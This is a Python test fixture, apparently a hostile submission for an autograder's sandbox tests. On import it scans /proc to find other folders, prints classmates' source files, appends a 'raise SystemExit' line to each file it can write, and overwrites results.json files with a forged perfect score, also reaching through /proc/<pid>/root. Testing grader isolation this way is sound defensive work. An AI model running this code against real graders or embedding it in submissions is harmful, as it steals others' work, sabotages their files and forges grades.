"""Boundary case `reach_classmates` (tests/test_boundary.py).

On import it walks its ancestors' and every visible process's command line and cwd for
folders, prints every classmate's .py it can read into its own report, appends
`raise SystemExit` to each one it can write, and tries to write a forged results.json into
every grade folder it can reach, also through /proc/<pid>/root/..., which bypasses a tmpfs.
Expected: it finds nothing of the class or the outputs; no classmate's file and no output
changes. It prints what it managed, marked `accelgrade-hostile-corpus reach:`.
"""
# BASE: the lovelace example solution goes here (tests/test_hostile.py: corpus_source)

# ---- hostile part ----------------------------------------------------------
import glob
import os

_FORGED = '{"score": 100.0, "output": "accelgrade-hostile-corpus: forged", "tests": []}'


def _folders():
    found = set()
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                args = [a.decode(errors="replace") for a in fh.read().split(b"\0") if a]
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        found.add(cwd)
        for a in args:
            for part in a.replace("=", " ").split():
                path = part if os.path.isabs(part) else os.path.join(cwd, part)
                if os.path.isdir(path):
                    found.add(path)
                for prefix in ("", f"/proc/{pid}/root"):
                    if os.path.isdir(prefix + path):
                        found.add(prefix + path)
    return found


def _its_own(path):
    """Its own folder and the system's files are not what it is after."""
    real = os.path.realpath(path)
    return (real in ("/", "/proc") or real.startswith(("/usr", "/proc/self", f"/proc/{os.getpid()}/"))
            or real.startswith(os.path.realpath(os.getcwd())))


_read = _spoiled = _forged = 0
for _dir in sorted(_folders()):
    if _its_own(_dir):
        continue
    for _path in glob.glob(os.path.join(_dir, "*.py")) + glob.glob(os.path.join(_dir, "*", "*.py")):
        if _its_own(_path):
            continue
        try:
            with open(_path, encoding="utf-8", errors="replace") as _fh:
                print(f"accelgrade-hostile-corpus reach: read {_path}: {_fh.read()[:2000]}")
            _read += 1
            with open(_path, "a") as _fh:
                _fh.write("\nraise SystemExit  # accelgrade-hostile-corpus\n")
            _spoiled += 1
        except OSError:
            pass
    for _path in glob.glob(os.path.join(_dir, "*", "results.json")):
        try:
            with open(_path, "w") as _fh:
                _fh.write(_FORGED)
            _forged += 1
        except OSError:
            pass
print(f"accelgrade-hostile-corpus reach: read {_read}, spoiled {_spoiled}, forged {_forged}")
